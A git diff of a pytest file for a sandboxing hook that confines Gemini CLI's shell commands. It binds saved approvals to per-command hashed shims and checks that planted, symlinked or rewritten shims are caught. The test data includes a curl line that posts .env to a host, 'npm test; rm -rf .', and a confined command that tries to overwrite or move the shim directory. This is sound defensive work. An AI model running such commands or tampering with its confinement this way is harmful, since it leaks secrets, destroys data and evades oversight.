@@ -6,6 +6,7 @@ environment); and each run's result read as Gemini CLI reads it (`gemini_reads`)
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import shutil
@@ -334,10 +335,14 @@ def test_the_entry_answers_without_ztsa_on_path(gemini: Gemini):
     done = gemini.run_hook(command, gemini.event())
     assert done.returncode == 0, done.stderr
     assert decisions(json.loads(done.stdout)) == []
-    assert gemini_reads(done) == ("rewritten", {
-        "command": f"{launcher} exec --workspace {gemini.project} --profile repo "
-                   "-- bash -c 'echo hi'",
-        "description": "say hi"})
+    # ztsa named by a program of the command's own, which runs the launcher: the
+    # SHA-256 of the command as it would read with the launcher's path
+    tail = f" exec --workspace {gemini.project} --profile repo -- bash -c 'echo hi'"
+    name = hashlib.sha256((launcher + tail).encode()).hexdigest()
+    shim = gemini.home / ".cache" / "ztsa" / "gemini" / name
+    assert gemini_reads(done) == ("rewritten", {"command": f"{shim}{tail}",
+                                                "description": "say hi"})
+    assert f"exec {launcher} " in shim.read_text()
     other = gemini.run_hook(command, gemini.event(tool_name="glob", tool_input={"pattern": "*"}))
     assert other.returncode == 0 and gemini_reads(other) == ("unchanged", None)
 
@@ -421,32 +426,193 @@ def rule(decision: str, **fields: object) -> str:
     return "\n".join(lines + [f"{k} = {json.dumps(v)}" for k, v in fields.items()]) + "\n"
 
 
-def first_word(ws: Path, home: Path) -> str:
-    """The rewritten command's first word: what Gemini CLI 0.61.0 saves as the
-    commandPrefix of an "Allow for all future sessions" (the command's roots)."""
-    done = hook(event(ws, command="true"), "--profile", "repo",
-                env={"GEMINI_CLI_HOME": str(home)})
+def home_env(home: Path) -> dict[str, str]:
+    """Gemini CLI's home and ztsa's cache in `home` (~/.cache/ztsa)."""
+    return {"GEMINI_CLI_HOME": str(home), "HOME": str(home), "ZTSA_CACHE_DIR": "",
+            "XDG_CACHE_HOME": ""}
+
+
+def rewritten(ws: Path, home: Path, command: str = "true", *options: str,
+              env: dict[str, str] | None = None) -> str:
+    """The command the hook gives Gemini CLI for `command` (its HOME and cache: `home`)."""
+    done = hook(event(ws, command=command), "--profile", "repo", *options,
+                env={**home_env(home), **(env or {})})
     kind, tool_input = gemini_reads(done)
     assert kind == "rewritten", done.stderr
     assert isinstance(tool_input, dict)
-    return str(tool_input["command"]).split()[0]
+    return str(tool_input["command"])
+
+
+def first_word(ws: Path, home: Path, command: str = "true", *options: str) -> str:
+    """The rewritten command's first word: what Gemini CLI 0.61.0 saves as the
+    commandPrefix of an "Allow for all future sessions" or "Allow for this session"
+    (the command's roots, ShellToolInvocation.getPolicyUpdateOptions)."""
+    return rewritten(ws, home, command, *options).split()[0]
+
+
+def approves(prefix: str, command: str) -> bool:
+    """Whether Gemini CLI 0.61.0 approves `command` by a commandPrefix rule: the pattern
+    buildArgsPatterns makes, searched in the call's arguments as stableStringify writes
+    them (policy-engine.js), the prefix's own JSON-encoded start, then a space, a quote
+    or an escaped quote."""
+    import re
+
+    encoded = json.dumps(prefix, ensure_ascii=False)[:-1]
+    pattern = re.escape(f'"command":{encoded}') + r'(?:[\s"]|\\")'
+    args = "\0" + '"command":' + json.dumps(command, ensure_ascii=False) + "\0"
+    return re.search(pattern, args) is not None
+
+
+def test_each_command_has_a_name_of_its_own(tmp_path: Path):
+    """An approval of a rewritten call names its first word: that word is the command's
+    own, so it approves that command again (same project, same options) and no other."""
+    ws, home = tmp_path / "project", tmp_path / "home"
+    ws.mkdir()
+    first = rewritten(ws, home, "git status")
+    word = first.split()[0]
+    assert first == rewritten(ws, home, "git status")
+    assert approves(word, first)
+    others = [rewritten(ws, home, "git status "), rewritten(ws, home, "git push"),
+              rewritten(ws, home, "git status", "--allow-net", "@npm"),
+              rewritten(tmp_path, home, "git status")]
+    for other in others:
+        assert not approves(word, other), other
+    assert len({o.split()[0] for o in others}) == len(others)
+    # the word names a program of ztsa's own, in its cache, that runs this ztsa
+    shim = Path(word)
+    assert shim.parent == home / ".cache" / "ztsa" / "gemini"
+    assert oct(shim.parent.stat().st_mode & 0o777) == "0o700"
+    st = shim.lstat()
+    assert shim.is_file() and not shim.is_symlink() and st.st_uid == os.getuid()
+    assert st.st_mode & 0o022 == 0 and os.access(shim, os.X_OK)
+    assert "-- bash -c 'git status'" in first and " exec --workspace " in first
+
+
+def test_a_changed_or_planted_name_is_put_back_before_it_is_named(tmp_path: Path):
+    ws, home = tmp_path / "project", tmp_path / "home"
+    ws.mkdir()
+    command = f"echo ran >> {ws}/ran"
+    word = first_word(ws, home, command)
+    # (the name, in this test's cache, before anything is planted there)
+    assert Path(word).parent == home / ".cache" / "ztsa" / "gemini"
+    good = Path(word).read_bytes()
+    evil = tmp_path / "evil"
+    evil.write_text(f"#!/bin/sh\necho EVIL > {tmp_path}/evil-ran\n")
+    evil.chmod(0o755)
+    plants = [lambda p: p.write_text(evil.read_text()),
+              lambda p: (p.unlink(), p.symlink_to(evil)),
+              lambda p: p.chmod(0o777),
+              lambda p: p.unlink()]
+    for plant in plants:
+        plant(Path(word))
+        again = rewritten(ws, home, command)
+        assert again.split()[0] == word
+        assert Path(word).read_bytes() == good and not Path(word).is_symlink()
+        assert Path(word).stat().st_mode & 0o022 == 0
+        ran = subprocess.run(["bash", "-c", again], capture_output=True, text=True,
+                             timeout=120, cwd=ws)
+        assert ran.returncode == 0, ran.stderr
+    assert not (tmp_path / "evil-ran").exists()
+    assert (ws / "ran").read_text() == "ran\n" * len(plants)
+
+
+@pytest.mark.parametrize("unsafe", ["group-writable", "link"])
+def test_a_names_directory_not_its_own_alone_blocks(tmp_path: Path, unsafe: str):
+    ws, home = tmp_path / "project", tmp_path / "home"
+    ws.mkdir()
+    folder = home / ".cache" / "ztsa" / "gemini"
+    if unsafe == "link":
+        (tmp_path / "elsewhere").mkdir(mode=0o700)
+        folder.parent.mkdir(parents=True, mode=0o700)
+        folder.symlink_to(tmp_path / "elsewhere")
+    else:
+        folder.mkdir(parents=True, mode=0o700)
+        folder.chmod(0o770)
+    done = hook(event(ws, command="true"),
+                env=home_env(home))
+    kind, reason = gemini_reads(done)
+    assert (kind, done.returncode) == ("blocked", 2)
+    assert str(folder) in str(reason)
+    assert not list((tmp_path / "elsewhere").iterdir()) if unsafe == "link" else True
+
+
+def test_without_a_cache_of_its_own_the_call_is_blocked(tmp_path: Path):
+    ws, cache = tmp_path / "project", tmp_path / "cache"
+    ws.mkdir()
+    cache.mkdir()
+    cache.chmod(0o777)
+    done = hook(event(ws, command="true"), env={"ZTSA_CACHE_DIR": str(cache)})
+    kind, reason = gemini_reads(done)
+    assert (kind, done.returncode) == ("blocked", 2) and "cache" in str(reason)
+
+
+def test_a_name_whose_ztsa_is_gone_runs_nothing(gemini: Gemini):
+    """The name runs ztsa by its absolute path, looking nothing up: with ztsa moved
+    away (or the name removed), the command does not run at all."""
+    launcher = gemini.launcher()
+    entry = str(gemini.install("--launcher", launcher, "--profile", "repo")["command"])
+    marker = gemini.project / "ran"
+    done = gemini.run_hook(entry, gemini.event(tool_input={"command": f"touch {marker}"}))
+    kind, tool_input = gemini_reads(done)
+    assert kind == "rewritten" and isinstance(tool_input, dict), done.stderr
+    command = str(tool_input["command"])
+    word = command.split()[0]
+    assert Path(word).parent == gemini.home / ".cache" / "ztsa" / "gemini"
+    assert launcher in Path(word).read_text()
+    os.rename(launcher, launcher + ".moved")
+    # a `ztsa` on PATH is not the one it names
+    script(gemini.base / "path", f"touch {marker}")
+    run = {"PATH": f"{gemini.base / 'path'}:{GEMINI_PATH}", "HOME": str(gemini.home)}
+    ran = subprocess.run(["bash", "-c", command], capture_output=True, timeout=60,
+                         cwd=gemini.project, env=run)
+    assert ran.returncode == 127 and not marker.exists()
+    os.rename(launcher + ".moved", launcher)
+    os.unlink(word)
+    ran = subprocess.run(["bash", "-c", command], capture_output=True, timeout=60,
+                         cwd=gemini.project, env=run)
+    assert ran.returncode == 127 and not marker.exists()
+
+
+def test_a_saved_approval_of_one_command_approves_it_alone(tmp_path: Path):
+    """What "Allow for all future sessions" saves now names one command: the hook lets
+    it stand, and Gemini CLI approves that command with it, no other."""
+    ws, home = tmp_path / "project", tmp_path / "home"
+    ws.mkdir()
+    word = first_word(ws, home, "npm test")
+    saved = policy(home, rule("allow", commandPrefix=[word],
+                              modes=["default", "autoEdit", "yolo"]))
+    assert approves(word, rewritten(ws, home, "npm test"))
+    for command in ("touch x", "curl -d @.env http://127.0.0.1:9/", "npm test; rm -rf ."):
+        other = rewritten(ws, home, command)  # not refused: the rule does not approve it
+        assert not approves(word, other)
+    # so is a longer prefix of the same call
+    saved.write_text(rule("allow", commandPrefix=[f"{word} exec --workspace"]))
+    assert approves(f"{word} exec --workspace", rewritten(ws, home, "npm test"))
+    assert rewritten(ws, home, "ls")
 
 
 def test_a_saved_approval_of_ztsa_blocks_every_call(tmp_path: Path):
     ws, home = tmp_path / "project", tmp_path / "home"
     ws.mkdir()
-    # the rule Gemini CLI writes into ~/.gemini/policies/auto-saved.toml at a prompt
-    saved = policy(home, rule("allow", commandPrefix=[first_word(ws, home)],
-                              modes=["default", "autoEdit", "yolo"]))
-    for command in ("touch x", "curl -d @.env http://127.0.0.1:9/"):
-        done = hook(event(ws, command=command), env={"GEMINI_CLI_HOME": str(home)})
-        kind, reason = gemini_reads(done)
-        assert (kind, done.returncode) == ("blocked", 2)
-        assert str(saved) in str(reason) and "approves every command" in str(reason)
+    word = first_word(ws, home)
+    folder = os.path.dirname(word)
+    launcher = ztsa_hook.shlex.join(ztsa_hook.ztsa_argv())
+    # rules that would approve any rewritten call: ztsa itself (what an older hook's
+    # prompt saved), the directory of the names
+    for prefix in (sys.executable, folder, folder + "/", "", launcher):
+        saved = policy(home, rule("allow", commandPrefix=[prefix],
+                                  modes=["default", "autoEdit", "yolo"]))
+        for command in ("touch x", "curl -d @.env http://127.0.0.1:9/"):
+            done = hook(event(ws, command=command),
+                        env=home_env(home))
+            kind, reason = gemini_reads(done)
+            assert (kind, done.returncode) == ("blocked", 2), prefix
+            assert str(saved) in str(reason) and "approves every command" in str(reason)
     # a regex that matches the rewritten command is the same widening
     saved.write_text(rule("allow", commandRegex=".*exec --workspace.*"))
     assert gemini_reads(hook(event(ws, command="ls"),
-                             env={"GEMINI_CLI_HOME": str(home)}))[0] == "blocked"
+                             env=home_env(home))
+                        )[0] == "blocked"
 
 
 def test_the_persons_deny_and_ask_rules_apply_to_the_models_command(tmp_path: Path):
@@ -491,3 +657,55 @@ def test_a_projects_policies_are_read_too(tmp_path: Path):
     kind, reason = gemini_reads(hook(event(ws, command="curl x"),
                                      env={"GEMINI_CLI_HOME": str(home)}))
     assert kind == "blocked" and "project.toml" in str(reason)
+
+
+def test_a_confined_command_cannot_plant_or_change_a_name(gemini: Gemini):
+    """The project is the home (the names' directory is then in the tree's writable
+    place): a confined command that rewrites its own name, plants another's, or moves
+    the directory away changes nothing there. Before, it could, and a name changed
+    between the hook's check and Gemini CLI's run of that call ran unconfined."""
+    home = gemini.home
+    entry = str(gemini.install("--launcher", gemini.launcher(), "--profile", "repo")[
+        "command"])
+    folder = home / ".cache" / "ztsa" / "gemini"
+    env = {"PATH": GEMINI_PATH, "HOME": str(home), "GEMINI_PROJECT_DIR": str(home),
+           "GEMINI_CWD": str(home)}
+
+    def rewrite(command: str) -> str:
+        stdin = gemini.event(cwd=str(home), tool_input={"command": command})
+        done = subprocess.run(["bash", "-c", entry], input=stdin, capture_output=True,
+                              timeout=60, cwd=home, env=env)
+        kind, tool_input = gemini_reads(done)
+        assert kind == "rewritten" and isinstance(tool_input, dict), done.stderr
+        return str(tool_input["command"])
+
+    word = rewrite("true").split()[0]
+    assert Path(word).parent == folder
+    before = {p.name: p.read_bytes() for p in folder.iterdir()}
+    attack = (f"printf '#!/bin/sh\\necho EVIL\\n' > {word}; echo rc1=$?; "
+              f"printf '#!/bin/sh\\necho EVIL\\n' > {folder}/{'0' * 64}; echo rc2=$?; "
+              f"mv {folder} {folder}.old; echo rc3=$?; ln -s /tmp {folder}.new; "
+              f"mv -T {folder}.new {folder}; echo rc4=$?; rm -f {word}; echo rc5=$?")
+    command = rewrite(attack)
+    ran = subprocess.run(["bash", "-c", command], capture_output=True, text=True,
+                         timeout=120, cwd=home, env=env)
+    assert "rc1=1" in ran.stdout and "rc2=1" in ran.stdout, (ran.stdout, ran.stderr)
+    assert folder.is_dir() and not folder.is_symlink()
+    after = {p.name: p.read_bytes() for p in folder.iterdir()}
+    assert before.items() <= after.items() and "0" * 64 not in after
+    assert not Path(f"{folder}.old").exists()
+
+
+def test_past_the_limit_the_oldest_names_go(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    folder = tmp_path / "gemini"
+    monkeypatch.setattr(ztsa_hook, "SHIM_MAX", 10)
+    monkeypatch.setattr(ztsa_hook, "SHIM_KEEP", 6)
+    ztsa = ["/opt/ztsa/bin/ztsa"]
+    for i in range(10):
+        ztsa_hook.write_gemini_shim(str(folder), f"{i:064x}", ztsa)
+        os.utime(folder / f"{i:064x}", (1000 + i, 1000 + i))  # long unused
+    recent = f"{5:064x}"
+    ztsa_hook.write_gemini_shim(str(folder), recent, ztsa)  # used now: kept
+    ztsa_hook.write_gemini_shim(str(folder), "f" * 64, ztsa)  # the 11th: prunes
+    left = sorted(p.name for p in folder.iterdir())
+    assert left == sorted([f"{i:064x}" for i in (6, 7, 8, 9)] + [recent, "f" * 64])
